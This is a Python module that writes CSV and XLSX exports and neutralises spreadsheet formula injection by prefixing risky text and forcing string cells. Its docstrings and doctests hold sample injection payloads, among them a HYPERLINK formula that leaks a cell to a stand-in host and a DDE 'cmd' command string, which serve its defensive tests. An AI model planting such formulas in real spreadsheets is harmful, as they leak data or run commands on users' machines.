"""Spreadsheet files out: the one CSV writer and the one XLSX writer that every export uses.

A spreadsheet program reads a cell starting with ``= + - @`` as a formula (Excel also skips a
leading tab or carriage return before looking), so a customer named
``=HYPERLINK("http://x?leak="&A1,"Click")`` would turn an export into a link that leaks the
sheet, and ``=cmd|' /C calc'!A0`` into a command (OWASP "CSV injection"). Text is therefore
always written as text: in a CSV a risky text gets a leading apostrophe, in an XLSX every text is
a string cell (never a formula, whatever it starts with). Numbers stay numbers: a ``Decimal`` or
``int`` is a number cell, and a CSV text that is only a plain decimal number (``-100.00``, as the
exports format their amounts) is left as it is, since a spreadsheet reads it as that number.

>>> safe_text('=cmd|\\' /C calc\\'!A0')
"'=cmd|' /C calc'!A0"
>>> [safe_text(text) for text in ("+1", "-1+1", "@SUM(A1)", "\\t=1", "-100.00", "Durand")]
["'+1", "'-1+1", "'@SUM(A1)", "'\\t=1", '-100.00', 'Durand']
>>> csv_text([("name", "amount"), ("@SUM(A1)", Decimal("-100.00")), (None, 3)])
"name,amount\\n'@SUM(A1),-100.00\\n,3\\n"
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
# Characters XML 1.0 cannot hold (openpyxl refuses them): dropped rather than failing the export.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_risky(text: str) -> bool:
    """Would a spreadsheet read this text as a formula?"""
    return text.startswith(FORMULA_TRIGGERS) and PLAIN_NUMBER.fullmatch(text) is None


def safe_text(text: str) -> str:
    """The text as a CSV cell: prefixed with ``'`` when it would start a formula."""
    return f"'{text}" if is_risky(text) else text


def csv_value(value: object) -> str:
    """A value as CSV text: ``None`` empty, numbers as numbers, dates ISO, any text made safe.

    A carriage return inside a text becomes a line feed: ``csv`` quotes a field holding a line
    feed, not one holding a lone CR, which readers would take for the end of the row.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return safe_text(str(value))
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, date):
        return value.isoformat()
    return safe_text(str(value)).replace("\r\n", "\n").replace("\r", "\n")


class CsvWriter:
    """``csv.writer`` (comma, ``\\n`` line ends) that writes every cell through :func:`csv_value`."""

    def __init__(self, handle: IO[str], *, delimiter: str = ",") -> None:
        self._writer = csv.writer(handle, delimiter=delimiter, lineterminator="\n")

    def row(self, values: Iterable[object]) -> None:
        self._writer.writerow([csv_value(value) for value in values])

    def rows(self, rows: Iterable[Iterable[object]]) -> None:
        for values in rows:
            self.row(values)


def csv_text(rows: Iterable[Iterable[object]], *, delimiter: str = ",") -> str:
    out = io.StringIO()
    CsvWriter(out, delimiter=delimiter).rows(rows)
    return out.getvalue()


@dataclass(frozen=True, slots=True, kw_only=True)
class Cell:
    """A value with its look: a number format (``#,##0.00``, ``yyyy-mm-dd``…) and boldness."""

    value: Any
    number_format: str = ""
    bold: bool = False


HEADER_FILL = "1F4E79"
HEADER_COLOUR = "FFFFFF"


class XlsxSheet:
    """One sheet of an :class:`XlsxBook`, filled row by row (openpyxl's write-only mode)."""

    def __init__(self, book: XlsxBook, sheet: Any) -> None:
        self._book = book
        self._sheet = sheet

    def widths(self, widths: Sequence[float]) -> None:
        from openpyxl.utils import get_column_letter

        for index, width in enumerate(widths, start=1):
            self._sheet.column_dimensions[get_column_letter(index)].width = width

    def freeze(self, top_left: str) -> None:
        self._sheet.freeze_panes = top_left

    def header(self, titles: Iterable[object]) -> None:
        """A banner row: white bold titles on dark blue, centred and wrapped."""
        self._sheet.append([self._book.cell(self._sheet, title, header=True) for title in titles])

    def row(self, values: Iterable[object], *, bold: bool = False) -> None:
        """Plain values or :class:`Cell`; ``bold`` applies to every cell of the row."""
        self._sheet.append([self._book.cell(self._sheet, value, bold=bold) for value in values])


class XlsxBook:
    """An XLSX workbook whose text cells are strings, never formulas.

    >>> book = XlsxBook()
    >>> sheet = book.sheet("Balance")
    >>> sheet.header(["Name", "Amount"])
    >>> sheet.row(['=HYPERLINK("http://x?leak="&A1,"Click")', Cell(value=Decimal("-100.00"), number_format="#,##0.00")])
    >>> from openpyxl import load_workbook
    >>> cells = list(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows(min_row=2))[0]
    >>> [(cell.value, cell.data_type) for cell in cells]
    [('=HYPERLINK("http://x?leak="&A1,"Click")', 's'), (-100, 'n')]
    """

    def __init__(self) -> None:
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Alignment, Font, PatternFill

        self._book = Workbook(write_only=True)
        self._make_cell = WriteOnlyCell
        self._bold = Font(bold=True)
        self._header_font = Font(bold=True, color=HEADER_COLOUR)
        self._header_fill = PatternFill("solid", fgColor=HEADER_FILL)
        self._header_alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)

    def sheet(self, title: str) -> XlsxSheet:
        """A new sheet; Excel allows 31 characters in a title."""
        return XlsxSheet(self, self._book.create_sheet(str(title)[:31]))

    def cell(self, sheet: Any, value: object, *, bold: bool = False, header: bool = False) -> Any:
        number_format = ""
        if isinstance(value, Cell):
            number_format, bold, value = value.number_format, value.bold or bold, value.value
        text = value is not None and not isinstance(value, int | float | Decimal | date)
        if text:
            value = XML_ILLEGAL.sub("", str(value))
        written = self._make_cell(sheet, value=value)
        if text:
            written.data_type = "s"  # openpyxl makes a formula of any text starting with "="
            written.quotePrefix = is_risky(str(value))  # and Excel keeps it text when edited
        if number_format:
            written.number_format = number_format
        if header:
            written.font = self._header_font
            written.fill = self._header_fill
            written.alignment = self._header_alignment
        elif bold:
            written.font = self._bold
        return written

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()
